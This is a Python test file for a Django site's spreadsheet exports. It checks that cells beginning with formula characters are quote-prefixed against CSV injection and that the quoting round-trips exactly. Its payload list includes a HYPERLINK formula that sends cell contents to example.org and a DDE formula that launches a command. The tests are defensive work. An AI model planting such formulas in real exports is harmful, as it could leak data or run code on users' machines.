"""Exports that a spreadsheet cannot run (OWASP "CSV injection"), and that import back."""

import csv
import datetime
import io

from django.urls import reverse

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from guides.tests.factories import GuidePageFactory, site_tree
from kb.spreadsheets import neutralise, restore
from kb.tests.factories import SchoolYearFactory

PAYLOADS = [
    '=HYPERLINK("https://example.org/?"&A1, "Klikkaa")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_quoted(payload):
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


def test_ordinary_text_and_values_are_left_alone():
    for value in ["Rahoitus", "'lainaus'", "7; 1", "", "15.1.2027", "a=b", 7, None]:
        assert neutralise(value) == value


@given(st.text())
def test_the_round_trip_is_exact_for_every_text(text):
    quoted = neutralise(text)
    assert not quoted.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(quoted) == text


@pytest.mark.django_db
def test_review_report_exports_are_safe(client, django_user_model):
    tree = site_tree()
    GuidePageFactory(parent=tree["public"], title=PAYLOADS[0], slug="hyperlink")
    SchoolYearFactory(start_year=2026)
    client.force_login(django_user_model.objects.create_superuser("admin", password="x"))
    url = reverse("review_report")
    with time_machine.travel(datetime.datetime(2026, 9, 1, 12), tick=False):
        response = client.get(url + "?export=csv")
        body = b"".join(response.streaming_content).decode()
        workbook_bytes = b"".join(client.get(url + "?export=xlsx").streaming_content)
    titles = [row[0] for row in csv.reader(io.StringIO(body))]
    assert "'" + PAYLOADS[0] in titles
    assert PAYLOADS[0] not in titles
    sheet = load_workbook(io.BytesIO(workbook_bytes)).active
    (cell,) = [row[0] for row in sheet.iter_rows() if row[0].value == PAYLOADS[0]]
    assert cell.data_type == "s"
    assert cell.quotePrefix
